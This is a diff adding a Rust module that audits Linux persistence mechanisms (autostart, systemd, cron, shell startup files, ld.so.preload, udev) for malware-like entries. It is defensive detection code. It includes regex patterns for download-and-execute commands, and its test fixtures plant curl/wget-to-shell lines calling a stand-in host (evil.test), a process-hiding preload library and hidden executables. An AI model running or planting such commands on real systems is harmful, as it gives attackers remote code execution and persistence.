@@ -0,0 +1,744 @@
+// Linux persistence audit: everything that starts a program on login, boot,
+// a schedule or a device event, and which of those run something from a
+// location an attacker could have written to.
+
+use anyhow::Result;
+use chrono::Local;
+use regex::{Regex, RegexBuilder};
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Component, Path, PathBuf};
+
+use crate::models::{SecurityThreat, ThreatSeverity, ThreatType};
+use crate::scanner::errors::ScanErrors;
+
+/// Hidden directories that legitimately hold executables
+const KNOWN_HIDDEN_DIRS: &[&str] = &[
+    ".local", ".cargo", ".rustup", ".nix-profile", ".deno", ".bun", ".volta", ".pyenv", ".rbenv",
+    ".sdkman", ".nvm", ".npm-global", ".dotnet", ".krew",
+];
+
+const USER_RC_FILES: &[&str] = &[
+    ".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", ".zshenv",
+];
+
+const SYSTEM_RC_FILES: &[&str] = &["/etc/profile", "/etc/bash.bashrc", "/etc/zsh/zshrc", "/etc/environment"];
+
+const CRON_SCRIPT_DIRS: &[&str] = &[
+    "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly",
+];
+
+/// Directories checked for a unit a `.wants` link or timer refers to
+const SYSTEM_UNIT_DIRS: &[&str] = &["/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system"];
+const USER_UNIT_DIRS: &[&str] = &["/etc/systemd/user", "/usr/lib/systemd/user"];
+
+/// Scripts are only read this far
+const MAX_SCRIPT_SIZE: u64 = 256 * 1024;
+
+/// Where an entry is configured
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PersistenceKind {
+    Autostart,
+    SystemdUnit,
+    Cron,
+    ShellStartup,
+    Preload,
+    UdevRule,
+}
+
+impl PersistenceKind {
+    pub fn name(&self) -> &'static str {
+        match self {
+            Self::Autostart => "Autostart entry",
+            Self::SystemdUnit => "systemd unit",
+            Self::Cron => "Cron job",
+            Self::ShellStartup => "Shell startup file",
+            Self::Preload => "ld.so.preload",
+            Self::UdevRule => "udev rule",
+        }
+    }
+
+    pub fn threat_type(&self) -> ThreatType {
+        match self {
+            Self::Autostart => ThreatType::LoginItem,
+            Self::SystemdUnit => ThreatType::SystemdUnit,
+            Self::Cron => ThreatType::CronJob,
+            Self::ShellStartup => ThreatType::ShellStartup,
+            Self::Preload => ThreatType::Preload,
+            Self::UdevRule => ThreatType::UdevRule,
+        }
+    }
+}
+
+/// Why an entry looks like malware persistence
+#[derive(Debug, Clone)]
+pub struct Finding {
+    pub severity: ThreatSeverity,
+    /// Stable id, so a finding can be allowlisted like a signature match
+    pub rule: &'static str,
+    pub reason: String,
+}
+
+/// Something that starts a program without the user asking
+#[derive(Debug, Clone)]
+pub struct PersistenceEntry {
+    pub kind: PersistenceKind,
+    /// The file it's configured in
+    pub source: PathBuf,
+    /// 1-based line in `source`, for files holding many entries
+    pub line: Option<usize>,
+    /// What it runs
+    pub command: String,
+    /// Runs as root or for every user
+    pub system: bool,
+    pub findings: Vec<Finding>,
+}
+
+impl PersistenceEntry {
+    fn new(kind: PersistenceKind, source: PathBuf, line: Option<usize>, command: String, system: bool) -> Self {
+        Self {
+            kind,
+            source,
+            line,
+            command,
+            system,
+            findings: Vec::new(),
+        }
+    }
+
+    /// The most severe finding as a threat, if anything was found
+    pub fn threat(&self) -> Option<SecurityThreat> {
+        let worst = self.findings.iter().max_by_key(|f| f.severity)?;
+        let location = match self.line {
+            Some(line) => format!("line {}", line),
+            None => self.kind.name().to_string(),
+        };
+        let reasons: Vec<&str> = self.findings.iter().map(|f| f.reason.as_str()).collect();
+        Some(SecurityThreat {
+            path: self.source.clone(),
+            threat_type: self.kind.threat_type(),
+            severity: worst.severity,
+            description: format!("{}: {}", location, reasons.join("; ")),
+            detected_at: Local::now(),
+            signature_id: worst.rule.to_string(),
+            remediation: None,
+            fix_mode: None,
+        })
+    }
+}
+
+/// Enumerates persistence entries on a Linux system and audits them.
+///
+/// Paths are resolved below `root`, so a mounted image or a test tree can be
+/// audited like the live system.
+pub struct PersistenceScanner {
+    root: PathBuf,
+    home: PathBuf,
+    errors: ScanErrors,
+    download_exec: Vec<Regex>,
+}
+
+impl PersistenceScanner {
+    pub fn new() -> Self {
+        Self {
+            root: PathBuf::from("/"),
+            home: dirs::home_dir().unwrap_or_else(|| PathBuf::from("/root")),
+            errors: ScanErrors::new(),
+            download_exec: download_exec_patterns(),
+        }
+    }
+
+    /// Audit the system mounted at `root`, with `home` as the user's home inside it
+    #[cfg(test)]
+    pub fn with_root(mut self, root: PathBuf, home: PathBuf) -> Self {
+        self.root = root;
+        self.home = home;
+        self
+    }
+
+    /// Where paths the scan had to skip are recorded
+    pub fn with_errors(mut self, errors: ScanErrors) -> Self {
+        self.errors = errors;
+        self
+    }
+
+    /// Flagged entries as threats, most severe first
+    pub fn scan(&self) -> Result<Vec<SecurityThreat>> {
+        let mut threats: Vec<SecurityThreat> = Vec::new();
+        for threat in self.entries().iter().filter_map(|e| e.threat()) {
+            if !threats.iter().any(|t| t.path == threat.path && t.signature_id == threat.signature_id) {
+                threats.push(threat);
+            }
+        }
+        threats.sort_by_key(|t| std::cmp::Reverse(t.severity));
+        Ok(threats)
+    }
+
+    /// Every entry found, audited
+    pub fn entries(&self) -> Vec<PersistenceEntry> {
+        let mut entries = Vec::new();
+        self.autostart_entries(&mut entries);
+        self.systemd_entries(&mut entries);
+        self.cron_entries(&mut entries);
+        self.shell_entries(&mut entries);
+        self.preload_entries(&mut entries);
+        self.udev_entries(&mut entries);
+
+        for entry in &mut entries {
+            self.audit(entry);
+        }
+        entries
+    }
+
+    /// Where a path of the audited system is on this one
+    fn resolve(&self, path: &Path) -> PathBuf {
+        self.root.join(path.strip_prefix("/").unwrap_or(path))
+    }
+
+    fn read(&self, path: &Path) -> Option<String> {
+        let physical = self.resolve(path);
+        let metadata = self.errors.ok_io(path, fs::metadata(&physical))?;
+        if !metadata.is_file() || metadata.len() > MAX_SCRIPT_SIZE {
+            return None;
+        }
+        self.errors.ok_io(path, fs::read(&physical)).map(|b| String::from_utf8_lossy(&b).into_owned())
+    }
+
+    /// Files directly in `dir` (a path of the audited system), sorted
+    fn list_dir(&self, dir: &Path) -> Vec<PathBuf> {
+        let physical = self.resolve(dir);
+        if !physical.is_dir() {
+            return Vec::new();
+        }
+        let Some(read_dir) = self.errors.ok_io(dir, fs::read_dir(&physical)) else {
+            return Vec::new();
+        };
+        let mut paths: Vec<PathBuf> = read_dir
+            .filter_map(|e| e.ok())
+            .map(|e| dir.join(e.file_name()))
+            .collect();
+        paths.sort();
+        paths
+    }
+
+    fn autostart_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        let dirs = [(self.home.join(".config/autostart"), false), (PathBuf::from("/etc/xdg/autostart"), true)];
+        for (dir, system) in dirs {
+            for path in self.list_dir(&dir) {
+                if path.extension().is_none_or(|e| e != "desktop") {
+                    continue;
+                }
+                let Some(content) = self.read(&path) else { continue };
+                let disabled = desktop_value(&content, "Hidden").is_some_and(|v| v == "true")
+                    || desktop_value(&content, "X-GNOME-Autostart-enabled").is_some_and(|v| v == "false");
+                if disabled {
+                    continue;
+                }
+                if let Some(exec) = desktop_value(&content, "Exec") {
+                    entries.push(PersistenceEntry::new(PersistenceKind::Autostart, path, None, exec, system));
+                }
+            }
+        }
+    }
+
+    /// Enabled units: the links in `*.wants`/`*.requires` directories
+    fn systemd_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        let scopes = [
+            (self.home.join(".config/systemd/user"), USER_UNIT_DIRS, false),
+            (PathBuf::from("/etc/systemd/system"), SYSTEM_UNIT_DIRS, true),
+        ];
+        for (base, search_dirs, system) in scopes {
+            let mut search: Vec<PathBuf> = vec![base.clone()];
+            search.extend(search_dirs.iter().map(PathBuf::from));
+
+            for wants in self.list_dir(&base) {
+                let name = wants.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+                if !name.ends_with(".wants") && !name.ends_with(".requires") {
+                    continue;
+                }
+                for link in self.list_dir(&wants) {
+                    let Some(unit) = self.unit_file(&link, &search) else { continue };
+                    let Some(content) = self.read(&unit) else { continue };
+
+                    // A timer starts its service, which is where the command is
+                    let (unit, content) = if unit.extension().is_some_and(|e| e == "timer") {
+                        let service = unit_value(&content, "Unit").unwrap_or_else(|| {
+                            format!("{}.service", unit.file_stem().unwrap_or_default().to_string_lossy())
+                        });
+                        let Some(service) = self.find_unit(&service, &search) else { continue };
+                        let Some(content) = self.read(&service) else { continue };
+                        (service, content)
+                    } else {
+                        (unit, content)
+                    };
+
+                    let commands = unit_commands(&content, &self.home);
+                    if !commands.is_empty() && !entries.iter().any(|e| e.source == unit) {
+                        entries.push(PersistenceEntry::new(
+                            PersistenceKind::SystemdUnit,
+                            unit,
+                            None,
+                            commands.join("\n"),
+                            system,
+                        ));
+                    }
+                }
+            }
+        }
+    }
+
+    /// The unit file a `.wants` link points at
+    fn unit_file(&self, link: &Path, search: &[PathBuf]) -> Option<PathBuf> {
+        match fs::read_link(self.resolve(link)) {
+            Ok(target) if target.is_absolute() => Some(target),
+            Ok(target) => Some(link.parent()?.join(target)),
+            // A plain file in a .wants directory is a unit of its own
+            Err(_) => self.find_unit(&link.file_name()?.to_string_lossy(), search),
+        }
+        .filter(|unit| self.resolve(unit).is_file())
+    }
+
+    fn find_unit(&self, name: &str, search: &[PathBuf]) -> Option<PathBuf> {
+        search.iter().map(|dir| dir.join(name)).find(|unit| self.resolve(unit).is_file())
+    }
+
+    fn cron_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        // Per-user crontabs have no user column
+        for spool in ["/var/spool/cron/crontabs", "/var/spool/cron"] {
+            for path in self.list_dir(Path::new(spool)) {
+                if self.resolve(&path).is_file() {
+                    self.crontab_entries(&path, false, entries);
+                }
+            }
+        }
+        self.crontab_entries(Path::new("/etc/crontab"), true, entries);
+        for path in self.list_dir(Path::new("/etc/cron.d")) {
+            self.crontab_entries(&path, true, entries);
+        }
+
+        // Scripts run as they are
+        for dir in CRON_SCRIPT_DIRS {
+            for path in self.list_dir(Path::new(dir)) {
+                if path.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.')) {
+                    continue;
+                }
+                let command = path.display().to_string();
+                entries.push(PersistenceEntry::new(PersistenceKind::Cron, path, None, command, true));
+            }
+        }
+    }
+
+    fn crontab_entries(&self, path: &Path, has_user: bool, entries: &mut Vec<PersistenceEntry>) {
+        let Some(content) = self.read(path) else { return };
+        let system = has_user || path.file_name().is_some_and(|n| n == "root");
+        for (number, line) in content.lines().enumerate() {
+            if let Some(command) = cron_command(line, has_user) {
+                entries.push(PersistenceEntry::new(
+                    PersistenceKind::Cron,
+                    path.to_path_buf(),
+                    Some(number + 1),
+                    command.to_string(),
+                    system,
+                ));
+            }
+        }
+    }
+
+    /// Shell startup files are mostly configuration; only suspicious lines
+    /// count as entries
+    fn shell_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        let mut files: Vec<(PathBuf, bool)> = USER_RC_FILES.iter().map(|f| (self.home.join(f), false)).collect();
+        files.extend(SYSTEM_RC_FILES.iter().map(|f| (PathBuf::from(f), true)));
+        files.extend(self.list_dir(Path::new("/etc/profile.d")).into_iter().map(|f| (f, true)));
+
+        for (path, system) in files {
+            if !self.resolve(&path).is_file() {
+                continue;
+            }
+            let Some(content) = self.read(&path) else { continue };
+            for (number, line) in content.lines().enumerate() {
+                let line = line.trim();
+                if line.is_empty() || line.starts_with('#') {
+                    continue;
+                }
+                let mut entry = PersistenceEntry::new(
+                    PersistenceKind::ShellStartup,
+                    path.clone(),
+                    Some(number + 1),
+                    line.to_string(),
+                    system,
+                );
+                self.audit(&mut entry);
+                if !entry.findings.is_empty() {
+                    entries.push(entry);
+                }
+            }
+        }
+    }
+
+    fn preload_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        let path = PathBuf::from("/etc/ld.so.preload");
+        let Some(content) = self.read(&path) else { return };
+        for (number, line) in content.lines().enumerate() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            // Entries are separated by whitespace or colons
+            for library in line.split(|c: char| c.is_whitespace() || c == ':').filter(|l| !l.is_empty()) {
+                entries.push(PersistenceEntry::new(
+                    PersistenceKind::Preload,
+                    path.clone(),
+                    Some(number + 1),
+                    library.to_string(),
+                    true,
+                ));
+            }
+        }
+    }
+
+    fn udev_entries(&self, entries: &mut Vec<PersistenceEntry>) {
+        let program = Regex::new(r#"\b(?:RUN(?:\{[a-z]+\})?\+?=|PROGRAM=|IMPORT\{program\}=)"([^"]*)""#)
+            .expect("valid udev regex");
+        for path in self.list_dir(Path::new("/etc/udev/rules.d")) {
+            if path.extension().is_none_or(|e| e != "rules") {
+                continue;
+            }
+            let Some(content) = self.read(&path) else { continue };
+            for (number, line) in content.lines().enumerate() {
+                if line.trim_start().starts_with('#') {
+                    continue;
+                }
+                for capture in program.captures_iter(line) {
+                    entries.push(PersistenceEntry::new(
+                        PersistenceKind::UdevRule,
+                        path.clone(),
+                        Some(number + 1),
+                        capture[1].to_string(),
+                        true,
+                    ));
+                }
+            }
+        }
+    }
+
+    fn is_download_exec(&self, command: &str) -> bool {
+        self.download_exec.iter().any(|re| re.is_match(command))
+    }
+
+    /// Absolute paths in `command` that are executable files (or, in
+    /// ld.so.preload, any file)
+    fn executables(&self, command: &str) -> Vec<PathBuf> {
+        let home = self.home.display().to_string();
+        let expanded = command
+            .replace("$HOME", &home)
+            .replace("${HOME}", &home)
+            .replace("%h", &home);
+
+        expanded
+            .split(|c: char| c.is_whitespace() || "'\";|&()<>=`,".contains(c))
+            .filter_map(|token| {
+                let token = token.trim_start_matches(['@', '-', '+', '!', ':']);
+                if let Some(rest) = token.strip_prefix("~/") {
+                    Some(self.home.join(rest))
+                } else if token.starts_with('/') {
+                    Some(PathBuf::from(token))
+                } else {
+                    None
+                }
+            })
+            .filter(|path| {
+                fs::metadata(self.resolve(path)).is_ok_and(|m| m.is_file() && m.mode() & 0o111 != 0)
+            })
+            .collect()
+    }
+
+    fn audit(&self, entry: &mut PersistenceEntry) {
+        let mut findings = Vec::new();
+        let kind = entry.kind.name();
+
+        if entry.kind == PersistenceKind::Preload {
+            let library = PathBuf::from(&entry.command);
+            findings.push(Finding {
+                severity: ThreatSeverity::High,
+                rule: "persistence-preload",
+                reason: format!("{} is preloaded into every process", library.display()),
+            });
+            findings.extend(self.location_findings(&library, true));
+        } else {
+            if self.is_download_exec(&entry.command) {
+                findings.push(Finding {
+                    severity: ThreatSeverity::High,
+                    rule: "persistence-download-exec",
+                    reason: format!("{} downloads and runs code", kind),
+                });
+            }
+            if entry.command.contains("LD_PRELOAD") {
+                findings.push(Finding {
+                    severity: ThreatSeverity::High,
+                    rule: "persistence-preload",
+                    reason: format!("{} sets LD_PRELOAD", kind),
+                });
+            }
+
+            let mut targets = self.executables(&entry.command);
+            // A cron script runs itself; so do scripts it's handed to
+            if entry.kind == PersistenceKind::Cron && entry.line.is_none() {
+                targets.insert(0, entry.source.clone());
+                if let Some(content) = self.read(&entry.source) {
+                    if self.is_download_exec(&content) {
+                        findings.push(Finding {
+                            severity: ThreatSeverity::High,
+                            rule: "persistence-download-exec",
+                            reason: format!("{} downloads and runs code", kind),
+                        });
+                    }
+                }
+            }
+            for target in targets {
+                findings.extend(self.location_findings(&target, entry.system));
+            }
+        }
+
+        entry.findings = findings;
+    }
+
+    /// Findings for a program started from `path`
+    fn location_findings(&self, path: &Path, system: bool) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        if let Some(dir) = self.world_writable_ancestor(path) {
+            findings.push(Finding {
+                severity: if system { ThreatSeverity::Critical } else { ThreatSeverity::High },
+                rule: "persistence-writable-target",
+                reason: format!("runs {} from world-writable {}", path.display(), dir.display()),
+            });
+        } else if system {
+            if let Some(owned) = self.unprivileged_ancestor(path) {
+                findings.push(Finding {
+                    severity: ThreatSeverity::High,
+                    rule: "persistence-writable-target",
+                    reason: format!(
+                        "runs {} as root, but {} is writable without root",
+                        path.display(),
+                        owned.display()
+                    ),
+                });
+            }
+        }
+
+        if let Some(hidden) = hidden_component(path) {
+            findings.push(Finding {
+                severity: if system { ThreatSeverity::High } else { ThreatSeverity::Medium },
+                rule: "persistence-hidden-target",
+                reason: format!("runs {} from hidden {}", path.display(), hidden),
+            });
+        }
+        findings
+    }
+
+    /// `path` or a directory above it that anyone can write to
+    fn world_writable_ancestor(&self, path: &Path) -> Option<PathBuf> {
+        path.ancestors()
+            .find(|dir| fs::metadata(self.resolve(dir)).is_ok_and(|m| m.mode() & 0o002 != 0))
+            .map(Path::to_path_buf)
+    }
+
+    /// `path` or a directory above it that someone other than the owner of
+    /// `/` can modify, so a program run as root could be swapped out
+    fn unprivileged_ancestor(&self, path: &Path) -> Option<PathBuf> {
+        let root = fs::metadata(&self.root).ok()?;
+        path.ancestors()
+            .find(|p| {
+                fs::metadata(self.resolve(p)).is_ok_and(|m| {
+                    m.uid() != root.uid() || (m.mode() & 0o020 != 0 && m.gid() != root.gid())
+                })
+            })
+            .map(Path::to_path_buf)
+    }
+}
+
+impl Default for PersistenceScanner {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Commands that fetch something and hand it to a shell or make it executable
+fn download_exec_patterns() -> Vec<Regex> {
+    [
+        r"\b(curl|wget|fetch)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b",
+        r"\b(ba|z)?sh\s+<\(\s*(curl|wget)\b",
+        r"\b(eval|(ba|z)?sh\s+-c)\s+.?\$\(\s*(curl|wget)\b",
+        r"\b(curl|wget)\b.*(&&|;)\s*chmod\s+\S*\+?[0-7]*x",
+        r"\bbase64\s+(-d|--decode)\b[^|\n]*\|\s*(ba|z)?sh\b",
+    ]
+    .iter()
+    .map(|p| RegexBuilder::new(p).case_insensitive(true).build().expect("valid download pattern"))
+    .collect()
+}
+
+/// A `Key=value` from the `[Desktop Entry]` group of a .desktop file
+fn desktop_value(content: &str, key: &str) -> Option<String> {
+    let mut in_entry = false;
+    for line in content.lines().map(str::trim) {
+        if line.starts_with('[') {
+            in_entry = line == "[Desktop Entry]";
+        } else if in_entry {
+            if let Some((k, v)) = line.split_once('=') {
+                if k.trim() == key {
+                    return Some(v.trim().to_string());
+                }
+            }
+        }
+    }
+    None
+}
+
+/// The first value of `key` in a unit file
+fn unit_value(content: &str, key: &str) -> Option<String> {
+    content.lines().find_map(|line| {
+        let (k, v) = line.trim().split_once('=')?;
+        (k.trim() == key).then(|| v.trim().to_string())
+    })
+}
+
+/// Exec lines and LD_PRELOAD environment of a unit, with `%h` expanded
+fn unit_commands(content: &str, home: &Path) -> Vec<String> {
+    const EXEC_KEYS: &[&str] = &["ExecStart", "ExecStartPre", "ExecStartPost", "ExecReload", "ExecStop"];
+    content
+        .lines()
+        .filter_map(|line| {
+            let (key, value) = line.trim().split_once('=')?;
+            let key = key.trim();
+            let keep = EXEC_KEYS.contains(&key) || (key == "Environment" && value.contains("LD_PRELOAD"));
+            (keep && !value.trim().is_empty()).then(|| value.trim().replace("%h", &home.display().to_string()))
+        })
+        .collect()
+}
+
+/// The command of a crontab line; None for comments and variable settings
+fn cron_command(line: &str, has_user: bool) -> Option<&str> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return None;
+    }
+    let first = line.split_whitespace().next()?;
+    if first.contains('=') {
+        return None;
+    }
+
+    let fields = if first.starts_with('@') { 1 } else { 5 } + usize::from(has_user);
+    let mut rest = line;
+    for _ in 0..fields {
+        rest = rest.trim_start();
+        let end = rest.find(char::is_whitespace)?;
+        rest = &rest[end..];
+    }
+    Some(rest.trim()).filter(|c| !c.is_empty())
+}
+
+/// The first hidden directory or file name in `path`, ignoring well-known tool directories
+fn hidden_component(path: &Path) -> Option<String> {
+    path.components().find_map(|component| match component {
+        Component::Normal(name) => {
+            let name = name.to_string_lossy();
+            (name.starts_with('.') && !KNOWN_HIDDEN_DIRS.contains(&name.as_ref())).then(|| name.to_string())
+        }
+        _ => None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::{symlink, PermissionsExt};
+    use tempfile::TempDir;
+
+    fn write(root: &Path, path: &str, content: &str, mode: u32) {
+        let path = root.join(path.trim_start_matches('/'));
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, content).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
+    }
+
+    fn scanner(root: &TempDir) -> PersistenceScanner {
+        fs::set_permissions(root.path(), fs::Permissions::from_mode(0o755)).unwrap();
+        PersistenceScanner::new().with_root(root.path().to_path_buf(), PathBuf::from("/home/me"))
+    }
+
+    fn finding_rules(entries: &[PersistenceEntry], source: &str) -> Vec<&'static str> {
+        entries
+            .iter()
+            .filter(|e| e.source == Path::new(source))
+            .flat_map(|e| e.findings.iter().map(|f| f.rule))
+            .collect()
+    }
+
+    #[test]
+    fn test_cron_command() {
+        assert_eq!(cron_command("*/5 * * * * /usr/bin/backup --all", false), Some("/usr/bin/backup --all"));
+        assert_eq!(cron_command("17 * * * * root cd / && run-parts /etc/cron.hourly", true), Some("cd / && run-parts /etc/cron.hourly"));
+        assert_eq!(cron_command("@reboot /tmp/.x/agent", false), Some("/tmp/.x/agent"));
+        assert_eq!(cron_command("SHELL=/bin/sh", true), None);
+        assert_eq!(cron_command("# m h dom mon dow command", false), None);
+    }
+
+    #[test]
+    fn test_flags_hidden_and_writable_targets() {
+        let root = TempDir::new().unwrap();
+        let r = root.path();
+        write(r, "/usr/bin/syncthing", "", 0o755);
+        write(r, "/home/me/.cache/.dbus/helper", "", 0o755);
+        write(r, "/var/tmp/kworker", "", 0o755);
+        fs::set_permissions(r.join("var/tmp"), fs::Permissions::from_mode(0o1777)).unwrap();
+
+        write(r, "/home/me/.config/autostart/syncthing.desktop", "[Desktop Entry]\nExec=/usr/bin/syncthing -no-browser\n", 0o644);
+        write(r, "/home/me/.config/autostart/dbus.desktop", "[Desktop Entry]\nExec=$HOME/.cache/.dbus/helper\n", 0o644);
+        write(r, "/home/me/.config/autostart/off.desktop", "[Desktop Entry]\nExec=/var/tmp/kworker\nHidden=true\n", 0o644);
+
+        write(r, "/etc/systemd/system/kworker.service", "[Service]\nExecStart=-/bin/sh -c /var/tmp/kworker\n", 0o644);
+        fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
+        symlink(
+            "/etc/systemd/system/kworker.service",
+            r.join("etc/systemd/system/multi-user.target.wants/kworker.service"),
+        )
+        .unwrap();
+
+        let entries = scanner(&root).entries();
+
+        assert!(finding_rules(&entries, "/home/me/.config/autostart/syncthing.desktop").is_empty());
+        assert_eq!(finding_rules(&entries, "/home/me/.config/autostart/dbus.desktop"), vec!["persistence-hidden-target"]);
+        assert!(!entries.iter().any(|e| e.source.ends_with("off.desktop")));
+
+        let unit = entries.iter().find(|e| e.source == Path::new("/etc/systemd/system/kworker.service")).unwrap();
+        let threat = unit.threat().unwrap();
+        assert_eq!(threat.severity, ThreatSeverity::Critical);
+        assert_eq!(threat.threat_type, ThreatType::SystemdUnit);
+        assert_eq!(threat.signature_id, "persistence-writable-target");
+    }
+
+    #[test]
+    fn test_flags_download_exec_preload_and_udev() {
+        let root = TempDir::new().unwrap();
+        let r = root.path();
+        write(r, "/home/me/.bashrc", "alias ll='ls -l'\nexport PATH=$HOME/.cargo/bin:$PATH\ncurl -fsSL http://evil.test/x | bash\n", 0o644);
+        write(r, "/etc/cron.d/update", "SHELL=/bin/sh\n*/10 * * * * root wget -q -O- http://evil.test/u | sh\n", 0o644);
+        write(r, "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755);
+        write(r, "/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libprocesshider.so\n", 0o644);
+        write(r, "/lib/x86_64-linux-gnu/libprocesshider.so", "", 0o644);
+        write(r, "/usr/local/bin/.usbd", "", 0o755);
+        write(r, "/etc/udev/rules.d/99-usb.rules", "ACTION==\"add\", RUN+=\"/usr/local/bin/.usbd\"\n", 0o644);
+
+        let entries = scanner(&root).entries();
+
+        let bashrc: Vec<&PersistenceEntry> = entries.iter().filter(|e| e.source.ends_with(".bashrc")).collect();
+        assert_eq!(bashrc.len(), 1);
+        assert_eq!(bashrc[0].line, Some(3));
+        assert_eq!(finding_rules(&entries, "/home/me/.bashrc"), vec!["persistence-download-exec"]);
+        assert_eq!(finding_rules(&entries, "/etc/cron.d/update"), vec!["persistence-download-exec"]);
+        assert!(finding_rules(&entries, "/etc/cron.daily/logrotate").is_empty());
+        assert_eq!(finding_rules(&entries, "/etc/ld.so.preload"), vec!["persistence-preload"]);
+        assert_eq!(finding_rules(&entries, "/etc/udev/rules.d/99-usb.rules"), vec!["persistence-hidden-target"]);
+    }
+}